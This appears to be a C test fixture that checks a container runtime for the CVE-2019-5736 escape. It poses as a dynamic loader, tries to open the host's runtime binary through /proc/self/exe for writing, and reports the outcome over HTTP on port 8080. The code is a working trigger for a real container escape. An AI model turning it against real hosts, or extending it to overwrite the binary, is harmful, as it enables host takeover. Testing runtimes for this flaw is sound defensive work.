/* A dynamic loader that isn't one: an image puts it where the launcher's own program looks for its loader, and names
 * /proc/self/exe as its program. The kernel then runs the host's program with this as its first code, inside the instance, and
 * /proc/self/exe is a file of the host (CVE-2019-5736). It tries to open it for writing and tells at port 8080 how that went:
 * "text file busy" would mean that only the running of it was in the way. No C library: nothing has prepared one. */
#include <stddef.h>

static long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

enum { WRITE = 1, READ = 0, CLOSE = 3, SOCKET = 41, ACCEPT = 43, BIND = 49, LISTEN = 50, OPEN = 2, EXIT = 60 };
enum { WRITE_ONLY = 1, BUSY = -26 };

static void answer(int connection, const char *text) {
    static char request[1024];
    size_t length = 0;
    call(READ, connection, (long)request, sizeof request);
    while (text[length]) length++;
    call(WRITE, connection, (long)text, (long)length);
    call(CLOSE, connection, 0, 0);
}

__attribute__((force_align_arg_pointer, noreturn)) void _start(void) {
    long opened = call(OPEN, (long)"/proc/self/exe", WRITE_ONLY, 0);
    const char *text = opened >= 0 || opened == BUSY ? "HTTP/1.1 200 OK\r\ncontent-length: 7\r\nconnection: close\r\n\r\nescaped"
                                                     : "HTTP/1.1 200 OK\r\ncontent-length: 7\r\nconnection: close\r\n\r\nrefused";
    struct {
        unsigned short family, port;
        unsigned address;
        char rest[8];
    } any = {2, 0x901f /* 8080 */, 0, {0}};
    long listener = call(SOCKET, 2, 1, 0);
    if (call(BIND, listener, (long)&any, sizeof any) < 0 || call(LISTEN, listener, 16, 0) < 0) call(EXIT, 3, 0, 0);
    for (;;) {
        long connection = call(ACCEPT, listener, 0, 0);
        if (connection >= 0) answer((int)connection, text);
    }
}
